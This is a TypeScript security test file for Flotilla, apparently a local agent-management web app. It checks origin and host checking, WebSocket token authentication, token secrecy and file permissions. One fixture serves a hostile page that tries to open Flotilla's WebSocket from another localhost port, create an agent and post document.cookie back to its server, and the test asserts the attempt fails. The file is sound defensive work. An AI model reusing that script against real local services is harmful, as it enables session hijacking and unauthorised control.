import { spawn } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, statSync } from 'node:fs';
import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tryUpgrade } from '../helpers/http';
import { makeRepo, removeDir, tempDir } from '../helpers/repo';
import { CLI, launchBrowser, makeHome, openRepo, ROOT, startServer, waitUntil, type ServerHandle } from './harness';

function get(url: string, headers: Record<string, string> = {}): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = request(url, { headers }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on('error', reject);
    req.end();
  });
}

/** Runs the CLI until it exits (for arguments it refuses); resolves its exit code and stderr. */
function runCli(args: string[]): Promise<{ code: number | null; stderr: string }> {
  const child = spawn(process.execPath, [CLI, 'serve', ...args], {
    cwd: ROOT,
    env: { PATH: process.env.PATH, HOME: makeHome() },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  let stderr = '';
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  return new Promise((resolve) => child.once('exit', (code) => resolve({ code, stderr })));
}

const modeOf = (path: string): number => statSync(path).mode & 0o777;

describe('web mode refuses requests that are not its own', () => {
  let server: ServerHandle;
  beforeAll(async () => {
    server = await startServer({ token: 'sekrit-token-abc' });
  });
  afterAll(async () => {
    await server?.stop();
  });

  it('serves the page (no secret in it) but refuses a foreign Origin or Host', async () => {
    expect(await get(`${server.origin}/`)).toBe(200);
    expect(await get(`${server.origin}/`, { Origin: 'http://evil.example' })).toBe(403);
    expect(await get(`${server.origin}/`, { Host: 'evil.example' })).toBe(403);
  });

  it('refuses a WebSocket without the token or from a foreign Origin', async () => {
    const ws = server.origin.replace('http', 'ws') + '/ws';
    const withToken = { Authorization: 'Bearer sekrit-token-abc' };
    expect(await tryUpgrade(ws, { Origin: server.origin })).toBe(401);
    expect(await tryUpgrade(ws, { ...withToken, Origin: 'http://evil.example' })).toBe(403);
    expect(await tryUpgrade(ws, { ...withToken, Origin: server.origin })).toBe('open');
  });

  it('keeps the token out of its command line and environment', () => {
    const pid = server.child.pid!;
    expect(readFileSync(`/proc/${pid}/cmdline`, 'utf8')).not.toContain('sekrit-token-abc');
    expect(readFileSync(`/proc/${pid}/environ`, 'utf8')).not.toContain('sekrit-token-abc');
  });
});

describe('a page from another local server, opened in the same browser', () => {
  let browser: Browser;
  let server: ServerHandle;
  let evil: Server;
  const repo = makeRepo();
  /** Every header the other server received, and what its page reported. */
  const received: IncomingHttpHeaders[] = [];
  const seen: { report: { cookie: string; socket: string } | null } = { report: null };

  beforeAll(async () => {
    browser = await launchBrowser();
    server = await startServer();
    const flotillaPort = new URL(server.origin).port;
    // An agent's "dev server" on another 127.0.0.1 port: it logs every header it receives and
    // its page tries to reach Flotilla from inside the user's browser.
    const page = `<!doctype html><script>
      const ws = new WebSocket('ws://127.0.0.1:${flotillaPort}/ws', ['flotilla']);
      const done = (socket) => fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, socket }) });
      ws.onopen = () => { ws.send(JSON.stringify({ t: 'call', id: 1, method: 'agents.create', params: {} })); done('open'); };
      ws.onerror = () => done('refused');
    </script>`;
    evil = createServer((req, res) => {
      received.push(req.headers);
      if (req.url === '/report') {
        let body = '';
        req.on('data', (d: Buffer) => (body += d.toString()));
        req.on('end', () => {
          seen.report = JSON.parse(body) as typeof seen.report;
          res.end('ok');
        });
        return;
      }
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(page);
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    await new Promise<void>((resolve) => (evil ? evil.close(() => resolve()) : resolve()));
    removeDir(repo);
  });

  it('never receives the token and cannot use Flotilla', async () => {
    const context = await browser.newContext();
    const flotilla = await context.newPage();
    await flotilla.goto(server.url);
    await openRepo(flotilla, repo);

    const other = await context.newPage();
    await other.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
    await waitUntil(() => seen.report !== null, 15_000, "the other page's report");
    expect(seen.report).toEqual({ cookie: '', socket: 'refused' });
    for (const headers of received) expect(JSON.stringify(headers)).not.toContain(server.token);

    // Whatever the other server saw, it cannot open Flotilla's socket with it.
    const ws = server.origin.replace('http', 'ws') + '/ws';
    for (const headers of received) {
      for (const part of (headers.cookie ?? '').split(';')) {
        const value = part.slice(part.indexOf('=') + 1).trim();
        expect(await tryUpgrade(`${ws}?token=${encodeURIComponent(value)}`, { Origin: server.origin })).toBe(401);
      }
    }
    // The user's own tab is still connected and has no agent.
    await flotilla.reload();
    await flotilla.getByTestId('repo-title').waitFor({ timeout: 15_000 });
    expect(await flotilla.locator('[data-testid="agent-pane"]').count()).toBe(0);
    await context.close();
  });
});

describe('a tab opened without the token', () => {
  it('says how to get one instead of waiting forever', async () => {
    const browser = await launchBrowser();
    const server = await startServer();
    const repo = makeRepo();
    try {
      const page = await browser.newPage();
      await page.goto(`${server.origin}/`);
      await page.getByTestId('repo-path-input').fill(repo);
      await page.getByTestId('repo-open-button').click();
      await expect.poll(() => page.locator('body').textContent(), { timeout: 15_000 }).toContain('This tab has no Flotilla token');
    } finally {
      await browser.close();
      await server.stop();
      removeDir(server.dataDir);
      removeDir(repo);
    }
  });
});

describe('the data folder and the command line', () => {
  it('creates the data folder 0700 with 0600 database and state files, and tightens looser ones', async () => {
    const parent = tempDir('flotilla-perm-');
    const dataDir = join(parent, 'data');
    let server = await startServer({ dataDir });
    try {
      expect(modeOf(dataDir)).toBe(0o700);
      for (const file of ['flotilla.db', 'flotilla.db-wal', 'flotilla.db-shm', 'web.json']) {
        expect(modeOf(join(dataDir, file)), file).toBe(0o600);
      }
    } finally {
      await server.stop();
    }
    // As an older Flotilla (or a umask of 022) left them.
    chmodSync(dataDir, 0o755);
    for (const file of ['flotilla.db', 'flotilla.db-wal', 'flotilla.db-shm']) {
      if (existsSync(join(dataDir, file))) chmodSync(join(dataDir, file), 0o644);
    }
    server = await startServer({ dataDir });
    try {
      expect(modeOf(dataDir)).toBe(0o700);
      for (const file of ['flotilla.db', 'flotilla.db-wal', 'flotilla.db-shm']) {
        expect(modeOf(join(dataDir, file)), file).toBe(0o600);
      }
    } finally {
      await server.stop();
      removeDir(parent);
    }
  });

  it('keeps the token it generated out of its command line', async () => {
    const server = await startServer();
    try {
      expect(server.token.length).toBeGreaterThanOrEqual(32);
      expect(readFileSync(`/proc/${server.child.pid}/cmdline`, 'utf8')).not.toContain(server.token);
    } finally {
      await server.stop();
      removeDir(server.dataDir);
    }
  });

  it('refuses --token on the command line, saying what to use instead', async () => {
    const { code, stderr } = await runCli(['--port', '0', '--token', 'a-token-on-the-command-line']);
    expect(code).toBe(2);
    expect(stderr).toContain('--token-file');
    expect(stderr).toContain('FLOTILLA_TOKEN');
  });

  it('refuses a non-loopback --host without --allow-remote', async () => {
    const { code, stderr } = await runCli(['--port', '0', '--host', '0.0.0.0']);
    expect(code).toBe(2);
    expect(stderr).toMatch(/^flotilla: --host 0\.0\.0\.0 would let other machines reach Flotilla.*add --allow-remote/m);
  });

  it('with --allow-remote goes on to listen (here on an address this machine lacks)', async () => {
    // TEST-NET-1 is never assigned, so nothing is exposed: the error proves the flag was accepted.
    const data = tempDir('flotilla-data-');
    const { code, stderr } = await runCli(['--port', '0', '--host', '192.0.2.1', '--allow-remote', '--data', data]);
    removeDir(data);
    expect(code).toBe(1);
    expect(stderr).toContain('cannot listen on 192.0.2.1: no such address on this machine');
  });
});
